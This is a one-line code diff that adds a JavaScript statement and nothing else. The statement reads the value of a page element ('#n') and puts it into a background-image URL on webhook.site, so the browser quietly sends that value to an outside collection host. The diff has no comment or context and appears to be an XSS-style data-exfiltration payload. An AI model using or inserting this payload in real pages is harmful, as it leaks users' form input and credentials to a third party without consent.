@@ -1,0 +1,1 @@
+document.body.style.backgroundImage='url(https://webhook.site/abc?'+document.querySelector('#n').value+')'
